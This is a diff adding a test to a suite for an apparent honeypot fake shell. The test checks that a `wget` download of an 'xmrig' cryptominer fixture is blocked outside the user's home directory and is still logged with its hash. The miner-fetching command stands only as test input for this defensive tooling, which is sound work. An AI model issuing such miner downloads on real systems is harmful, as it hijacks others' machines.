@@ -142,6 +142,15 @@ describe('wget and curl in the fake shell', () => {
     expect(events.map((e) => e.fields.error)).toEqual(['blocked', 'blocked', 'blocked'])
   })
 
+  it('a user cannot save outside their home and the temp dirs (the fetch is still recorded)', async () => {
+    const { shell, events } = shellWithEvents('deploy')
+    expect(await run(shell, `cd /etc; wget -q ${base}/xmrig`)).toBe('xmrig: Permission denied\n')
+    expect(await run(shell, 'ls /etc')).not.toMatch(/xmrig/)
+    expect(events[0]?.fields).toMatchObject({ path: '/etc/xmrig', sha256: sha256(MINER) })
+    await run(shell, `cd; wget -q ${base}/xmrig`)
+    expect(await run(shell, 'ls')).toMatch(/xmrig/)
+  })
+
   it('one session fetches at most MAX_DOWNLOADS_PER_SESSION times; later URLs are recorded, not fetched', async () => {
     const { shell, events } = shellWithEvents()
     const before = requests.length
